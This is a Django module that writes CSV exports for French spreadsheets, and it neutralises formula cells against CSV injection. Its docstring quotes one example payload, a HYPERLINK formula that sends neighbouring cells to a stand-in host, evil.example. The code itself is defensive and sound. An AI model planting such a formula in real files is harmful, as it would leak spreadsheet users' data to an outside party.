"""The one CSV writer and the one CSV download of the app.

Every export goes through :func:`csv_text` and every view answers with :func:`csv_response`.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula: a household named
``=HYPERLINK("http://evil.example/?x="&A1)`` would turn a host's packing list into a link that
sends the neighbouring cells away ("CSV injection"). Following OWASP, such a cell is written
behind one single quote, which spreadsheets show as text. Numbers are left alone (``-3,50`` is
an amount, not a formula), and a cell that already starts with quotes before one of those
characters gets one more, so :func:`restore` gives back exactly what was written: a farm that
re-imports its own export gets its names back unchanged.

Every file is written for a French spreadsheet (see ``docs/french.md``): cells separated by
``;``, UTF-8 with the byte order mark, numbers with a decimal comma (``3,50``, ``0,5``), dates
``03/12/2026`` and times ``03/12/2026 18:00`` in Europe/Paris, yes/no in words of the language.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _

from common import dates

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _is_formula(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def neutralise(value: Any) -> str:
    """The text of one cell, safe to open in a spreadsheet (see the module's docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return csv_bool(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal | float):
        return csv_decimal(value)
    text = str(value)
    return QUOTE + text if _is_formula(text) else text


def restore(text: str) -> str:
    """The value a cell written by :func:`neutralise` held: the one protective quote removed.

    A file typed by hand keeps its text, except that one quote before ``=``, ``+``, ``-``,
    ``@``, a tab or a carriage return (what spreadsheets use to mark text) is dropped.
    """
    if text.startswith(QUOTE) and _is_formula(text[1:]):
        return text[1:]
    return text


# Control characters (Unicode "Cc") except tab, line feed and carriage return: the whitespace a
# spreadsheet writes inside a cell (pasted text, a line break in a description, Windows line
# ends), which the forms and the API accept too. The rest are never typed: NUL, the other C0
# controls, DEL and C1 come from binary or mis-encoded files, and PostgreSQL refuses NUL in text.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def control_character(text: str) -> str | None:
    """The first control character of ``text`` that a cell may not hold, as ``U+0000``."""
    found = _CONTROL.search(text)
    return f"U+{ord(found.group()):04X}" if found else None


def csv_decimal(value: Decimal | int | float | str) -> str:
    """A number for a French spreadsheet: ``Decimal("0.500")`` → ``0,5``, ``20`` → ``20``."""
    text = format(Decimal(str(value)).normalize(), "f")
    return text.replace(".", ",")


def csv_date(value: date | datetime | None) -> str:
    """``03/12/2026`` (a moment is read in Europe/Paris first); empty for no date."""
    return "" if value is None else dates.short(value)


def csv_datetime(value: datetime | None) -> str:
    """``03/12/2026 18:00`` in Europe/Paris; empty for no moment."""
    return "" if value is None else dates.short_time(value)


def csv_bool(value: bool) -> str:
    """``oui`` / ``non`` (``yes`` / ``no`` in English): what imports read back."""
    return _("yes") if value else _("no")


def csv_text(
    header: list[str], rows: Iterable[Iterable[Any]], *, delimiter: str = ";", bom: bool = True
) -> str:
    """A whole CSV file: the header, then the rows, every cell through :func:`neutralise`.

    By default the file is what French Excel opens as it is: ``;`` between cells and the byte
    order mark before UTF-8. Numbers, dates and booleans are written by the ``csv_*`` helpers
    above (and amounts by ``common.money.csv_euros``) before they reach it.
    """
    out = io.StringIO()
    if bom:
        out.write("\ufeff")  # Excel reads UTF-8 only with the byte order mark
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_response(text: str, filename: str) -> HttpResponse:
    """A CSV file to download: UTF-8, as an attachment named ``filename``."""
    response = HttpResponse(text, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response
